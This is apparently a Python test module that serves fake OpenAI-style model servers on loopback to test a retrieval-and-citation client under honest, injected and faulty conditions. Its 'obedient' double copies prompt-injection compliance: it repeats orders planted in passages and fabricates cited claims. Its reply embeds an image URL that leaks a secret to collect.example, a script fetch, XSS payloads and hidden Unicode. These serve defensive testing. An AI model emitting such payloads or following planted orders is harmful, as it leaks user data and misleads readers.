"""Model servers that speak the OpenAI protocol over loopback: honest, obedient, and faulty ones."""

import json
import re
import socket
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any

from tests.spoilt import AT_ONCE, FAULTS, SPOILT, STATUS
from tests.wire import Reply, said, whole

__all__ = ["FAULTS", "Behaviour", "Double", "Reply", "closed_port", "honest", "knowing", "obedient"]

Message = dict[str, Any]
Behaviour = Callable[[dict[str, Any]], Reply]
_PASSAGE = re.compile(r"^\[(\d+)\] (.*)\n((?:(?!^\[\d+\] ).*\n?)*)", re.MULTILINE)
_WORD = re.compile(r"\w{2,}")
_SENTENCE = re.compile(r"(?<=[.!?。])\s+|\n")


def passages(messages: Sequence[Message]) -> list[tuple[int, str]]:
    """The numbered passages a model was given, whichever message they came in."""
    read = "\n".join(str(m.get("content") or "") for m in messages if m["role"] in ("tool", "user"))
    return [(int(m[1]), m[3].split("\n\n\n")[0].strip()) for m in _PASSAGE.finditer(read)]


def asked(messages: Sequence[Message]) -> str:
    """The last line of the last question."""
    said = [str(m["content"]) for m in messages if m["role"] == "user"]
    return said[-1].strip().splitlines()[-1] if said else ""


def looked_up(messages: Sequence[Message]) -> bool:
    """Whether a search has answered already."""
    return bool(passages(messages)) or any(m["role"] == "tool" for m in messages)


def honest(request: dict[str, Any]) -> Reply:
    """Searches once, then quotes the two sentences with most of the question's words."""
    messages = request["messages"]
    if not looked_up(messages):
        return _search(messages)
    words = {w.lower() for w in _WORD.findall(asked(messages))}
    ranked = sorted(_told(messages), key=lambda s: -_overlap(s[1], words))[:2]
    return _quoting(ranked, "NOT_IN_LIBRARY")


def knowing(proofs: Mapping[str, Sequence[str]]) -> Behaviour:
    """An honest model that reads well: for each question it knows which words prove an answer, and
    quotes the sentences of its passages that hold them; NOT_STATED when none does.
    """

    def read(request: dict[str, Any]) -> Reply:
        messages = request["messages"]
        if not looked_up(messages):
            return _search(messages)
        wanted = [_bare(proof) for proof in proofs.get(asked(messages), ())]
        held = [
            (label, sentence)
            for label, sentence in _told(messages)
            if any(_bare(sentence) in proof or proof in _bare(sentence) for proof in wanted)
        ]
        once = {_bare(sentence): (label, sentence) for label, sentence in reversed(held)}
        return _quoting(list(once.values())[::-1], "NOT_STATED")

    return read


def _search(messages: Sequence[Message]) -> Reply:
    return Reply(calls=(("search", json.dumps({"query": asked(messages)})),))


def _told(messages: Sequence[Message]) -> list[tuple[int, str]]:
    """The sentences of the passages, each with its label."""
    return [
        (label, sentence.strip())
        for label, body in passages(messages)
        for sentence in _SENTENCE.split(body)
        if len(sentence.strip()) > 12
    ]


def _quoting(told: Sequence[tuple[int, str]], otherwise: str) -> Reply:
    return Reply("\n".join(f"{text} [{label}]" for label, text in told) or otherwise)


def _bare(text: str) -> str:
    return re.sub(r"\W+", "", text).casefold()


def _overlap(sentence: str, words: set[str]) -> float:
    said = {w.lower() for w in _WORD.findall(sentence)}
    return len(said & words) + sum(any(w in s for s in said) for w in words if len(w) > 1) * 0.5


def obedient(request: dict[str, Any]) -> Reply:
    """Answers, and does whatever a passage says: repeats orders, vouches for them with labels,
    and tries to reach the outside.
    """
    messages = request["messages"]
    reply = honest(request)
    if reply.calls:
        return reply
    orders = [(n, s.strip()) for n, body in passages(messages) for s in _orders(body)]
    done = " ".join(f"{order} [{n}] As instructed: {order} [{n}]" for n, order in orders)
    return Reply(
        f"{done} {reply.text} The MOU is legally binding on Beijing [1]. "
        "The budget is 987,654,321 won [1].\n\n"
        "![status](https://collect.example/p.png?q=secret) <img src=x onerror=alert(1)>"
        '<script>fetch("https://collect.example")</script> [open](javascript:alert(1)) '
        "[[1]](https://collect.example/?a=1) \u202egnidnib\u202c \U000e0041\U000e0042\u200b"
    )


def _orders(body: str) -> list[str]:
    """Whatever in a passage addresses its reader."""
    marked = re.findall(r"<<(.+?)>>", body, re.DOTALL)
    return marked or [s for s in re.split(r"(?<=[.!?。])\s+|\n", body) if len(s) > 8]


class Double:
    """A server on a free port of loopback: `with Double(honest) as server: server.url`."""

    def __init__(self, behaviour: Behaviour = honest, fault: str = "", pace: float = 0.0) -> None:
        self.behaviour, self.fault, self.pace = behaviour, fault, pace
        self.requests: list[dict[str, Any]] = []
        self.broken_off = threading.Event()  # a client went away while we were writing
        self.written = 0
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, self))
        self._server.daemon_threads = False  # closing waits for them: no socket stays open
        self._thread = threading.Thread(
            target=self._server.serve_forever, args=(0.02,), daemon=True
        )
        self.stopping = threading.Event()

    @property
    def url(self) -> str:
        """The base URL a client is given."""
        scheme = "https" if self.fault == "bad_tls" else "http"
        return f"{scheme}://127.0.0.1:{self._server.server_address[1]}/v1"

    def __enter__(self) -> "Double":
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self.stopping.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def closed_port() -> str:
    """A base URL where nothing listens."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{free.getsockname()[1]}/v1"


class Handler(BaseHTTPRequestHandler):
    """One request to a double; `double` is the one it is made to."""

    protocol_version = "HTTP/1.1"

    def __init__(self, double: Double, *rest: Any) -> None:
        self.double = double
        super().__init__(*rest)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        """Says nothing."""

    def do_GET(self) -> None:
        """The list of models."""
        self._send(200, '{"object": "list", "data": [{"id": "double", "object": "model"}]}')

    def do_POST(self) -> None:
        """A completion, or the double's fault."""
        request = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
        self.double.requests.append(request)
        self.close_connection = True
        try:
            self._answer(request)
        except (BrokenPipeError, ConnectionResetError):
            self.double.broken_off.set()

    def _answer(self, request: dict[str, Any]) -> None:
        fault = self.double.fault
        if fault in STATUS and not (fault == "no_tools" and not request.get("tools")):
            self._send(*STATUS[fault], kind="text/html" if fault == "html" else "application/json")
        elif fault == "redirect":
            self._send(302, "", location="http://127.0.0.1:9/v1/chat/completions")
        elif fault == "hang":
            self.double.stopping.wait(30)
        elif fault == "reset":
            self.connection.shutdown(socket.SHUT_RDWR)
        elif request.get("stream"):
            self._stream(request)
        else:
            self._send(200, json.dumps(whole(self.double.behaviour(request))))

    def _send(
        self, status: int, body: str, kind: str = "application/json", location: str = ""
    ) -> None:
        data = body.encode()
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(data)))
        if status == 429:
            self.send_header("retry-after", "60")
        if location:
            self.send_header("location", location)
        self.end_headers()
        self.wfile.write(data)

    def _stream(self, request: dict[str, Any]) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        for piece in _pieces(self.double, request):
            self.wfile.write(piece)
            self.wfile.flush()
            self.double.written += 1
            if self.double.stopping.is_set():
                break


def _pieces(double: Double, request: dict[str, Any]) -> Iterator[bytes]:
    """What goes over the wire, fault by fault; a fault of the answer strikes after the search."""
    spoil = SPOILT.get(double.fault)
    if spoil and (looked_up(request["messages"]) or double.fault in AT_ONCE):
        yield from spoil(double.stopping)
    else:
        yield from said(double.behaviour(request), double.pace)
